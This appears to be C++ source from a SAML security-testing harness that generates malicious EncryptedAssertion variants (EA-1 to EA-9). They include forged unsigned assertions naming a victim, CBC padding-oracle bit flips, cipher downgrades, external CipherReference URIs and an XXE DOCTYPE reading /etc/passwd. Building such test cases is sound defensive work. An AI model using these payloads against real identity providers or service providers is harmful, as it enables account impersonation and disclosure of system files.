// EncryptedAssertion attacks (EA-*).
#include <string>

#include "attacks/mutation_util.hpp"
#include "attacks/recipes.hpp"
#include "core/bindings.hpp"

namespace samlh::idp::recipes {
namespace {

using namespace mut;
namespace ns = core::ns;

core::EncryptOptions with_cipher(const MutationMaterial& m, core::DataCipher c) {
  core::EncryptOptions o = m.encrypt_options;
  o.cipher = c;
  return o;
}

// Sign the assertion (optionally), encrypt it, leave the Response unsigned.
MutationResult<Doc> encrypted(const MutationMaterial& m, bool sign_assertion, const core::EncryptOptions& o,
                            bool evil_after_signing = false) {
  auto d = load(m.unsigned_xml);
  if (!d) return d;
  if (sign_assertion) {
    if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  }
  if (evil_after_signing) set_text(name_id(*d), m.victim);
  if (auto st = encrypt(*d, m, o); !st) return st.failure();
  return d;
}

xmlNode* encrypted_assertion(const Doc& d) { return core::child(d.response, ns::kSaml, "EncryptedAssertion"); }
xmlNode* encrypted_data(const Doc& d) { return core::child(encrypted_assertion(d), ns::kXenc, "EncryptedData"); }
xmlNode* cipher_value(const Doc& d) {
  return core::child(core::child(encrypted_data(d), ns::kXenc, "CipherData"), ns::kXenc, "CipherValue");
}

// Flip one bit in the block `from_end` blocks before the end of the CBC ciphertext.
MutationResult<Mutated> flip(const MutationMaterial& m, int from_end, std::string note) {
  auto d = encrypted(m, true, with_cipher(m, core::DataCipher::aes128_cbc));
  if (!d) return d.failure();
  xmlNode* cv = cipher_value(*d);
  auto bytes = core::base64_decode(core::text(cv), 1 << 24);
  if (!bytes || bytes->size() < 48) return cannot("ciphertext too short to flip");
  const std::size_t pos = bytes->size() - static_cast<std::size_t>(from_end) * 16 - 1;
  (*bytes)[pos] = static_cast<char>((*bytes)[pos] ^ 0x01);
  set_text(cv, core::base64_encode(*bytes, 76));
  return one(dump(*d), std::move(note));
}

}  // namespace

MutationResult<Mutated> ea1_unsigned_encrypted(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  set_text(name_id(*d), m.victim);
  if (auto st = encrypt(*d, m, m.encrypt_options); !st) return st.failure();
  return one(dump(*d), "EA-1: a forged assertion encrypted to the SP's public key, no signature");
}
MutationResult<Mutated> ea2_flip_last_block(const MutationMaterial& m) {
  return flip(m, 1, "EA-2: a bit flipped in the last CBC block (padding oracle probe)");
}
MutationResult<Mutated> ea2_flip_second_last_block(const MutationMaterial& m) {
  return flip(m, 2, "EA-2: a bit flipped in the second-to-last CBC block (padding oracle probe)");
}
MutationResult<Mutated> ea3_rsa_1_5(const MutationMaterial& m) {
  core::EncryptOptions o = m.encrypt_options;
  o.transport = core::KeyTransport::rsa_1_5;
  auto d = encrypted(m, true, o);
  if (!d) return d.failure();
  return one(dump(*d), "EA-3: the session key wrapped with RSA PKCS#1 v1.5");
}
MutationResult<Mutated> ea4_cbc(const MutationMaterial& m) {
  auto d = encrypted(m, true, with_cipher(m, core::DataCipher::aes128_cbc));
  if (!d) return d.failure();
  return one(dump(*d), "EA-4: AES-128-CBC where GCM is required (mode downgrade)");
}
MutationResult<Mutated> ea5_cipher_reference(const MutationMaterial& m) {
  auto d = encrypted(m, true, m.encrypt_options);
  if (!d) return d.failure();
  xmlNode* cv = cipher_value(*d);
  xmlNodeSetName(cv, core::as_xml("CipherReference"));
  xmlNodeSetContent(cv, nullptr);
  set_attr(cv, "URI", "http://127.0.0.1:9/ciphertext");
  return one(dump(*d), "EA-5: CipherReference to a URL");
}
MutationResult<Mutated> ea5_external_retrieval_method(const MutationMaterial& m) {
  core::EncryptOptions o = m.encrypt_options;
  o.key_beside_data = true;
  auto d = encrypted(m, true, o);
  if (!d) return d.failure();
  xmlNode* rm = core::child(core::child(encrypted_data(*d), ns::kDs, "KeyInfo"), ns::kDs, "RetrievalMethod");
  if (rm == nullptr) return cannot("no RetrievalMethod");
  set_attr(rm, "URI", "http://127.0.0.1:9/encrypted-key.xml");
  return one(dump(*d), "EA-5: a RetrievalMethod to an external EncryptedKey");
}
MutationResult<Mutated> ea6_cipher_reference_transforms(const MutationMaterial& m) {
  auto d = encrypted(m, true, m.encrypt_options);
  if (!d) return d.failure();
  xmlNode* cv = cipher_value(*d);
  xmlNodeSetName(cv, core::as_xml("CipherReference"));
  xmlNodeSetContent(cv, nullptr);
  set_attr(cv, "URI", "#some-id");
  xmlNode* transforms = new_element(cv, ns::kXenc, "xenc", "Transforms");
  xmlAddChild(cv, transforms);
  xmlNode* t = new_element(transforms, ns::kDs, "ds", "Transform");
  set_attr(t, "Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116");
  xmlAddChild(transforms, t);
  return one(dump(*d), "EA-6: XSLT transform inside a CipherReference");
}
MutationResult<Mutated> ea7_doctype_in_plaintext(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  core::EncryptOptions o = m.encrypt_options;
  o.plaintext_override = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + core::serialize_node(d->assertion);
  if (auto st = encrypt(*d, m, o); !st) return st.failure();
  return one(dump(*d), "EA-7: the plaintext starts with a DOCTYPE");
}
MutationResult<Mutated> ea8_edit_then_encrypt(const MutationMaterial& m) {
  auto d = encrypted(m, true, with_cipher(m, core::DataCipher::aes256_cbc), true);
  if (!d) return d.failure();
  return one(dump(*d), "EA-8: signed, NameID edited, then encrypted (AES-CBC, Response unsigned)");
}
MutationResult<Mutated> ea8_edit_then_encrypt_gcm(const MutationMaterial& m) {
  auto d = encrypted(m, true, with_cipher(m, core::DataCipher::aes256_gcm), true);
  if (!d) return d.failure();
  return one(dump(*d), "EA-8: signed, NameID edited, then encrypted (AES-GCM)");
}
MutationResult<Mutated> ea9_two_encrypted_assertions(const MutationMaterial& m) {
  auto d = encrypted(m, true, m.encrypt_options);
  if (!d) return d.failure();
  xmlNode* ea = encrypted_assertion(*d);
  xmlAddNextSibling(ea, deep_copy(ea));
  return one(dump(*d), "EA-9: two EncryptedAssertions");
}
MutationResult<Mutated> ea9_two_encrypted_data(const MutationMaterial& m) {
  auto d = encrypted(m, true, m.encrypt_options);
  if (!d) return d.failure();
  xmlNode* data = encrypted_data(*d);
  xmlAddNextSibling(data, deep_copy(data));
  return one(dump(*d), "EA-9: two EncryptedData in one EncryptedAssertion");
}

}  // namespace samlh::idp::recipes
